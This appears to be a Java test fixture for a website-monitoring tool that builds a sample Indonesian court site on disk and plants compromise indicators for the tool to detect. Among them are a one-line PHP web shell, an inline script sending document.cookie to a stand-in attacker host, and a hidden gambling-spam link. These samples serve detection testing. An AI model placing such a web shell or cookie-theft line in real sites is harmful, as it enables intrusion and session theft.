package id.jagasitus.admin;

import id.jagasitus.cleanup.Cleanups;
import id.jagasitus.console.watch.CleanupConsole;
import id.jagasitus.console.watch.SiteLook;
import id.jagasitus.console.watch.WatchConsole;
import id.jagasitus.event.Severity;
import id.jagasitus.event.Signal;
import id.jagasitus.expiry.CertificateFacts;
import id.jagasitus.expiry.DomainFacts;
import id.jagasitus.expiry.ExpiryWatch;
import id.jagasitus.expiry.NameWatch;
import id.jagasitus.expiry.Names;
import id.jagasitus.finding.Findings;
import id.jagasitus.fresh.SectionRegister;
import id.jagasitus.integrity.Outgoing;
import id.jagasitus.integrity.Publishing;
import id.jagasitus.journal.Journal;
import id.jagasitus.patrol.OutsideLinks;
import id.jagasitus.patrol.ServedPages;
import id.jagasitus.patrol.ServedPatrol;
import id.jagasitus.patrol.SitePatrol;
import id.jagasitus.patrol.TieWatch;
import id.jagasitus.service.Papers;
import id.jagasitus.service.Service;
import id.jagasitus.service.ServiceRegister;
import id.jagasitus.store.EventStore;
import id.jagasitus.uptime.Answer;
import id.jagasitus.uptime.Reachability;
import id.jagasitus.uptime.UptimeSettings;
import id.jagasitus.watch.AddressGuard;
import id.jagasitus.watch.Hosts;
import id.jagasitus.watch.PageFetch;
import id.jagasitus.watch.Tie;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URI;
import java.net.UnknownHostException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.time.InstantSource;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import java.util.Set;

/**
 * A small site on the disk with the real desk over it: a page that was changed, a program that was
 * dropped, two weeks of looks with an outage, and two services.
 */
final class WatchRoom {

  private static final ZoneId ZONE = ZoneId.of("Asia/Jakarta");
  private static final Hosts HOSTS = new Hosts("pn-contoh.go.id", Set.of());

  final Path site;
  final List<Signal> signals = new ArrayList<>();

  /** What the last look at the files told. */
  final List<Signal> found;

  /** What the public address answers. */
  String home = "200";

  /** Judges by a changed register. */
  Runnable judge = this::judged;

  /** The newest snapshot. */
  Optional<String> saved = Optional.empty();

  private final WatchConsole desk;
  private final Cleanups cleanups;
  private final SitePatrol patrol;
  final Outgoing outgoing;
  private final Path papers;
  private final InstantSource clock;

  private WatchRoom(Path folder, InstantSource clock) throws IOException {
    site = Files.createDirectories(folder.resolve("situs"));
    Journal journal = Journal.open(folder.resolve("jejak"), clock);
    var sections = new SectionRegister(journal);
    var services = new ServiceRegister(journal);
    var publishing = new Publishing(journal);
    Reachability reachability = Reachability.open(folder.resolve("jangkau"), journal, () -> ZONE);
    journal.follow(sections::fold);
    journal.follow(services::fold);
    journal.follow(publishing::fold);
    journal.follow(reachability::fold);
    cleanups = new Cleanups(journal);
    journal.follow(cleanups::fold);
    papers = folder.resolve("berkas");
    this.clock = clock;
    patrol =
        SitePatrol.open(
            site,
            folder.resolve("pantau"),
            folder.resolve("bukti"),
            journal,
            sections,
            () -> HOSTS,
            clock,
            () -> ZONE);
    patrol.approvesIn(publishing);
    OutsideLinks links = OutsideLinks.open(folder.resolve("tautan"));
    outgoing = Outgoing.open(folder.resolve("keluar"), journal);
    outgoing.coveredBy(patrol::approvedTies);
    desk =
        new WatchConsole(
            new WatchConsole.Parts(
                Optional.of(patrol),
                sections,
                reachability,
                services,
                publishing,
                outgoing,
                signals::addAll,
                at -> {},
                served(clock, new TieWatch(outgoing, publishing, () -> HOSTS)),
                expiry(folder, services, clock),
                names(folder, clock),
                links,
                () -> {},
                () -> judge.run(),
                clock,
                () -> ZONE));
    pages();
    patrol.look(false);
    change();
    found = patrol.look(false);
    served();
    dead(links);
    visits(reachability, clock);
    services(services, LocalDate.ofInstant(clock.instant(), ZONE));
  }

  /** A certificate of a month and a registry whose date differs from the register's. */
  private static ExpiryWatch expiry(Path folder, ServiceRegister services, InstantSource clock)
      throws IOException {
    ExpiryWatch expiry =
        ExpiryWatch.open(folder.resolve("masa-berlaku"), services, clock, () -> ZONE);
    Instant until = clock.instant().plus(Duration.ofDays(33));
    try {
      expiry.look(
          new ExpiryWatch.Wanted(
              List.of(URI.create("https://pn-contoh.go.id/")), Optional.of("pn-contoh.go.id")),
          address -> certificate(until),
          name ->
              new DomainFacts(
                  name,
                  Optional.of(clock.instant().plus(Duration.ofDays(400))),
                  List.of("active"),
                  List.of("ns1.contoh.id", "ns2.contoh.id"),
                  "Komdigi",
                  false));
    } catch (InterruptedException e) {
      throw new IOException(e);
    }
    return expiry;
  }

  /** Two pages as they were approved, and a stranger's script that came without any file. */
  private void served() throws IOException {
    Instant before = clock.instant().minus(Duration.ofDays(3));
    outgoing.begin("https://pn-contoh.go.id/");
    Map<Tie, String> first =
        Map.of(
            new Tie(Tie.Kind.SCRIPT, "www.googletagmanager.com/gtag/js?id=G-1"),
            "https://www.googletagmanager.com/gtag/js?id=G-1",
            new Tie(Tie.Kind.LINK, "www.youtube.com"),
            "https://www.youtube.com/@pncontoh");
    outgoing.looked("/", first, WatchRoom::severity, before);
    outgoing.looked("/berita/", Map.of(), WatchRoom::severity, before);
    outgoing.approveAll("budi", "", before);
    Map<Tie, String> came =
        Map.of(
            new Tie(Tie.Kind.SCRIPT, "jahat.example/x.js"),
            "https://jahat.example/x.js?v=1",
            new Tie(Tie.Kind.INLINE, "ab".repeat(16)),
            "kirim('https://jahat.example/', document.cookie)",
            new Tie(Tie.Kind.LINK, "koran.example"),
            "https://koran.example/berita");
    outgoing.looked("/", came, WatchRoom::severity, clock.instant());
  }

  private static Severity severity(Tie tie, boolean came) {
    return came && tie.kind().grave() ? Severity.REVIEW : Severity.INFO;
  }

  /** A link of the news that has been gone for two looks. */
  private void dead(OutsideLinks links) throws IOException {
    links.learn(patrol.view().studies(), HOSTS);
    try {
      links.look(address -> "HTTP 404", clock.instant().minus(Duration.ofDays(1)));
      links.look(address -> "HTTP 404", clock.instant());
    } catch (InterruptedException e) {
      throw new IOException(e);
    }
  }

  private static NameWatch names(Path folder, InstantSource clock) throws IOException {
    NameWatch names = NameWatch.open(folder.resolve("nama"));
    names.look(
        "pn-contoh.go.id",
        new Names() {
          @Override
          public List<String> addresses(String host) throws IOException {
            if (!host.equals("pn-contoh.go.id")) {
              throw new UnknownHostException(host);
            }
            return List.of("203.0.113.1");
          }

          @Override
          public List<String> mailServers(String domain) {
            return List.of("mx.contoh.id");
          }

          @Override
          public List<String> issuers(String domain) {
            return List.of("issue letsencrypt.org");
          }

          @Override
          public List<String> nameServers(String domain) {
            return List.of("ns1.contoh.id");
          }
        },
        clock.instant());
    return names;
  }

  private static CertificateFacts certificate(Instant until) {
    return new CertificateFacts(
        "pn-contoh.go.id",
        until.minus(Duration.ofDays(90)),
        until,
        List.of("pn-contoh.go.id", "www.pn-contoh.go.id"),
        "Let's Encrypt",
        "ab".repeat(32),
        true,
        true);
  }

  /** Nothing is asked for over the network here. */
  private static ServedPatrol served(InstantSource clock, TieWatch ties) {
    return new ServedPatrol(
        Optional::empty,
        () -> HOSTS,
        () -> new PageFetch(new AddressGuard(List.of()), Duration.ofSeconds(1)),
        () -> {},
        new ServedPages(new Random(1)),
        ties,
        clock,
        () -> ZONE);
  }

  static WatchRoom open(InstantSource clock) {
    try {
      return new WatchRoom(Scratch.folder(), clock);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /** The clean-up over somebody's findings. */
  CleanupConsole cleanup(Findings findings, EventStore store) {
    return new CleanupConsole(
        new CleanupConsole.Parts(
            cleanups,
            findings,
            store,
            new Papers(papers),
            desk::now,
            new Look(),
            since -> saved.filter(any -> clock.instant().isAfter(since.minusSeconds(1))),
            () -> "Pengadilan Negeri Contoh",
            clock,
            () -> ZONE));
  }

  /** The files as they are; visitors see what a test says. */
  private final class Look implements SiteLook {
    @Override
    public void files() throws IOException {
      patrol.look(false);
    }

    @Override
    public void all() throws IOException {
      patrol.look(true);
    }

    @Override
    public String home() {
      return home;
    }
  }

  void judged() {
    patrol.judgeAnew();
  }

  WatchConsole desk() {
    return desk;
  }

  private void write(String name, String body) throws IOException {
    Path file = site.resolve(name);
    Files.createDirectories(file.getParent());
    Files.writeString(
        file,
        "<!doctype html>\n<html><head><title>PN Contoh</title></head><body>\n"
            + body
            + "\n</body></html>\n");
  }

  private void pages() throws IOException {
    write(
        "index.html",
        "<h1>Beranda</h1>\n<a href='berita/index.html'>Berita</a>\n<p>20 November 2026</p>");
    write(
        "berita/index.html",
        "<h1>Berita</h1>\n<p>6 November 2026</p>\n<a href='hilang.html'>x</a>");
    write("profil/visi-misi.html", "<h1>Visi dan misi</h1>\n<p>4 Januari 2024</p>");
  }

  private void change() throws IOException {
    write(
        "berita/index.html",
        "<h1>Berita</h1>\n"
            + "<p>6 November 2026</p>\n"
            + "<div style='display:none'><a href='https://promo.example/'>slot gacor hari"
            + " ini</a></div>");
    Files.writeString(site.resolve("shell.php"), "<?php @eval($_POST['x']);");
  }

  private static void visits(Reachability reachability, InstantSource clock) throws IOException {
    reachability.change(
        "budi",
        "",
        new UptimeSettings("https://pn-contoh.go.id/", List.of(), "", 1, 4_000, false, false));
    for (int day = 14; day >= 0; day--) {
      var at = clock.instant().minus(Duration.ofDays(day));
      boolean bad = day == 5;
      long millis = 120L + day;
      reachability.look(
          check -> new Answer(bad ? 503 : 200, millis, bad ? "HTTP 503" : "", "203.0.113.1"), at);
    }
  }

  private static void services(ServiceRegister services, LocalDate today) throws IOException {
    services.save(
        "budi", "", service("domain", "pn-contoh.go.id", Service.Kind.DOMAIN, today.plusDays(35)));
    services.save(
        "budi",
        "",
        service("internet", "Koneksi kantor", Service.Kind.CONNECTION, today.minusDays(2)));
  }

  private static Service service(String id, String name, Service.Kind kind, LocalDate expires) {
    return new Service(
        id, kind, name, "Penyedia", "12345", "DIPA 01", 14, expires, List.of(), List.of(), false);
  }
}
